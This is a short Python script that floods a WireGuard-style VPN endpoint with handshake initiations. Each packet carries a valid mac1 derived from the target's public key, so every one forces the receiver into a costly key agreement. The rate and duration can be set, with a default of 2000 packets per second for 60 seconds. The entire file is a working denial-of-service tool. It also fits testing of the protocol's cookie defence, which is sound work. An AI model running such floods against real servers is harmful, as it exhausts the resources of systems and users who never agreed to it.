#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends handshake initiations that anybody can make who knows a public key: mac1 is right, the
rest random. They cost the receiver a key agreement each, until it asks for proof of the address.

  initiations.py --to ADDRESS [--port N] --key BASE64 [--rate PER-SECOND] [--seconds N]
"""
import argparse
import base64
import hashlib
import os
import socket
import time


def initiation(key):
    message = bytes([1, 0, 0, 0]) + os.urandom(112)
    mac1_key = hashlib.blake2s(b"mac1----" + key).digest()
    return message + hashlib.blake2s(message, key=mac1_key, digest_size=16).digest() + bytes(16)


def main():
    options = argparse.ArgumentParser()
    options.add_argument("--to", required=True)
    options.add_argument("--port", type=int, default=51820)
    options.add_argument("--key", required=True, type=base64.b64decode)
    options.add_argument("--rate", type=int, default=2000)
    options.add_argument("--seconds", type=float, default=60)
    o = options.parse_args()
    family = socket.AF_INET6 if ":" in o.to else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    messages = [initiation(o.key) for _ in range(256)]
    began = time.monotonic()
    sent = 0
    while (passed := time.monotonic() - began) < o.seconds:
        for _ in range(int(passed * o.rate) - sent):
            sock.sendto(messages[sent % 256], (o.to, o.port))
            sent += 1
        time.sleep(0.002)
    print(sent)


if __name__ == "__main__":
    main()
